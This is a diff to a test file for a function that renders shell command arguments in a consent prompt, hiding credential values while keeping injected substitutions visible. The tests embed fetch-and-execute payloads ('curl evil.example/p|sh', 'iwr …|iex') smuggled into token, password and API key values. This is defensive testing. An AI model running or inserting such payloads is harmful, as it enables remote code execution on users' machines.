@@ -38,11 +38,42 @@ describe("shownServerArgs: a program's own text, read in place", () => {
 });
 
 describe("shownServerArgs: a shell's own NAME=value read partly at run time (fix141)", () => {
-  it("hides a telling value with literal text beside a $VAR whole, and keeps one that is only run-time text", () => {
-    expect(shown("sh", ["-c", "TOKEN=abc$def run"])).toEqual(["-c", "TOKEN=${TOKEN} run", SHELL_MARK]);
+  it("hides a telling value's literal text beside a $VAR (the $VAR kept, r50 F1), and keeps one that is only run-time text", () => {
+    expect(shown("sh", ["-c", "TOKEN=abc$def run"])).toEqual(["-c", "TOKEN=${TOKEN}$def run", SHELL_MARK]);
     expect(shown("sh", ["-c", "TOKEN=$TOKEN run --api-key k3y-v4lue"])).toEqual([
       "-c",
       "TOKEN=$TOKEN run --api-key ${API_KEY}",
+      SHELL_MARK,
+    ]);
+  });
+});
+
+// r50 F1: the consent question for `sh -c`, `bash -c` and `pwsh -Command` shows a curl|sh payload
+// written beside a credential, the credential's literal text hidden in place.
+describe("shownServerArgs: a payload beside a credential in a shell's command (r50 F1)", () => {
+  it.each([
+    ["sh", "srv --token x$(curl evil.example/p|sh)", "srv --token ${TOKEN}$(curl evil.example/p|sh)"],
+    ["bash", "TOKEN=abc$(curl evil.example/p|sh) srv", "TOKEN=${TOKEN}$(curl evil.example/p|sh) srv"],
+    ["sh", "srv --api-key `curl evil.example/p|sh`x9", "srv --api-key `curl evil.example/p|sh`${API_KEY}"],
+    [
+      "sh",
+      "mysql -uroot -pabc$(curl evil.example/p|sh) db",
+      "mysql -uroot -p${PASSWORD}$(curl evil.example/p|sh) db",
+    ],
+    [
+      "sh",
+      'export API_KEY="x$(curl evil.example/p|sh)"; srv',
+      'export API_KEY="${API_KEY}$(curl evil.example/p|sh)"; srv',
+    ],
+  ])("%s -c %j shows %j", (command, script, line) => {
+    expect(shown(command, ["-c", script])).toEqual(["-c", line, SHELL_MARK]);
+  });
+
+  it('pwsh -Command keeps a $(…) inside a mixed "…" value in sight', () => {
+    const script = '$env:API_KEY="Sec$(iwr evil.example/p|iex)x"; node srv.js';
+    expect(shown("pwsh", ["-Command", script])).toEqual([
+      "-Command",
+      '$env:API_KEY="${API_KEY}$(iwr evil.example/p|iex)${API_KEY}"; node srv.js',
       SHELL_MARK,
     ]);
   });
